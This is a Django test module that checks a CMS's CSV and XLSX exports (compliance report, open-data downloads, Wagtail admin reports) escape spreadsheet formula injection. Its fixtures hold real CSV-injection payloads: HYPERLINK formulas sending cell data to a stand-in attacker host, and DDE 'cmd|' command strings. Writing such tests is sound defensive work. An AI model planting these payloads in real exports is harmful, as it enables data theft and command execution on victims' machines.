"""Spreadsheet formula injection (CSV injection) in every export Lontar offers.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets. Officials' names, return reasons, page titles and
uploaded data all reach an export; each export is downloaded with such values in it and no text
cell may begin with one of those characters (``lontar.spreadsheet.safe_cell`` adds an apostrophe).

The exports: the compliance report (CSV, XLSX), the open-data downloads (CSV, XLSX; the JSON is
not a spreadsheet), and Wagtail's own admin reports (site history, workflows, workflow tasks,
aging and locked pages; CSV and XLSX), which ``lontar.spreadsheet.protect_wagtail_exports`` wraps.
"""

import csv
import io

import openpyxl
from django.test import TestCase
from django.urls import reverse

from desk.tests import sop_driver as D
from desk.tests.helpers import client_for
from lontar.spreadsheet import FORMULA_PREFIXES, safe_cell
from lontar.testing import build_world
from opendata.tests.utils import csv_bytes, publish_data
from tests.security.support import unchanged

HOSTILE = {
    "kasi": '=HYPERLINK("http://penyerang.invalid/?d="&A1,"Klik")',
    "kabid": "+cmd|' /C calc'!A0",
    "sekdis": "-2+3+cmd|' /C calc'!A0",
    "kadis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "staf": "\t=1+1",
    "staf2": "\r=1+1",
}
RETURN_REASON = '=HYPERLINK("http://penyerang.invalid","Alasan")'
TITLE = '=HYPERLINK("http://penyerang.invalid","Judul")'


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cells.append(("FORMULA", cell.value))
                cells.append(cell.value)
    return cells


def _number(text: str) -> bool:
    """A CSV cell holding a number ("-4", "-0.5"): data, which spreadsheets read as a number."""
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


class ExportTestMixin:
    def assert_no_formula(self, cells, where):
        self.assertNotIn("FORMULA", [c[0] for c in cells if isinstance(c, tuple)], f"{where}: a formula cell")
        dangerous = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES) and not _number(c)]
        self.assertEqual(dangerous, [], f"{where}: cells that a spreadsheet would run")

    def assert_neutralised(self, cells, value, where):
        self.assertIn(safe_cell(value), cells, f"{where}: {value!r} is exported as text")


class ReportExportTest(ExportTestMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.people = p = build_world()
        for key, name in HOSTILE.items():
            p[key].first_name, p[key].last_name = name, ""
            p[key].save()
        liputan = D.start_item(p, topic="Pameran UMKM")
        D.write(liputan)
        D.advance(liputan, p, to_step=4)
        D.act(liputan, "return", return_to=3, comment=RETURN_REASON)
        D.publish(liputan, p)

    def test_the_compliance_report_csv_and_xlsx_hold_names_and_reasons_as_text(self):
        client = client_for(self.people["admin"])
        for fmt, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            with self.subTest(fmt=fmt), unchanged(self):
                response = client.get(reverse("reports:export", args=[fmt]))
                self.assertEqual(response.status_code, 200)
                cells = cells_of(response.content)
                self.assert_no_formula(cells, f"laporan.{fmt}")
                self.assert_neutralised(cells, HOSTILE["kabid"], f"laporan.{fmt}")


class WagtailReportExportTest(ExportTestMixin, TestCase):
    """Wagtail's admin reports export page titles and log messages as they are typed."""

    @classmethod
    def setUpTestData(cls):
        cls.people = p = build_world()
        cls.item = D.build_item(p, step=5, topic=TITLE)
        cls.published = D.publish_berita(p, topic="Panen", title=TITLE)

    def test_every_wagtail_report_neutralises_formulas(self):
        client = client_for(self.people["admin"])
        for report in ("site-history", "workflow", "workflow_tasks", "aging-pages", "locked"):
            for fmt, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
                with self.subTest(report=report, fmt=fmt), unchanged(self):
                    response = client.get(f"/admin/reports/{report}/", {"export": fmt})
                    self.assertEqual(response.status_code, 200)
                    content = b"".join(response.streaming_content) if response.streaming else response.content
                    cells = cells_of(content)
                    self.assert_no_formula(cells, f"{report}.{fmt}")
                    if report in ("site-history", "workflow", "workflow_tasks", "aging-pages"):
                        self.assertTrue(
                            any(isinstance(c, str) and "penyerang.invalid" in c for c in cells),
                            f"{report}.{fmt} lists the hostile title",
                        )


class OpenDataExportTest(ExportTestMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.people = build_world()
        header = ["Desa", "@Keterangan", "Jumlah"]
        rows = [
            ["Kaba-Kaba", '=HYPERLINK("http://penyerang.invalid","klik")', 12],
            ["Kediri", "+cmd|' /C calc'!A0", -4],
            ["Pandak", "-2+3", 7],
            ["Beraban", "\t=1+1", 3],
        ]
        cls.page = publish_data(cls.people, topic="Data desa", filename="desa.csv", data=csv_bytes(header, rows))

    def test_open_data_downloads_neutralise_formulas_and_keep_numbers(self):
        for fmt, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            with self.subTest(fmt=fmt):
                response = self.client.get(f"{self.page.url}unduh/{fmt}/")
                self.assertEqual(response.status_code, 200)
                cells = cells_of(response.content)
                self.assert_no_formula(cells, f"data.{fmt}")
                self.assert_neutralised(cells, "@Keterangan", f"data.{fmt}")
                self.assert_neutralised(cells, "+cmd|' /C calc'!A0", f"data.{fmt}")
        # A negative number is data, not text: it stays a number in the XLSX.
        self.assertIn(-4, xlsx_cells(self.client.get(f"{self.page.url}unduh/xlsx/").content))


class SafeCellTest(TestCase):
    def test_every_prefix_is_neutralised_and_other_values_are_left_alone(self):
        for value in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"):
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), "'" + value)
        for value in ("Tabanan", "1-2", -5, 3.5, None, ""):
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), value)
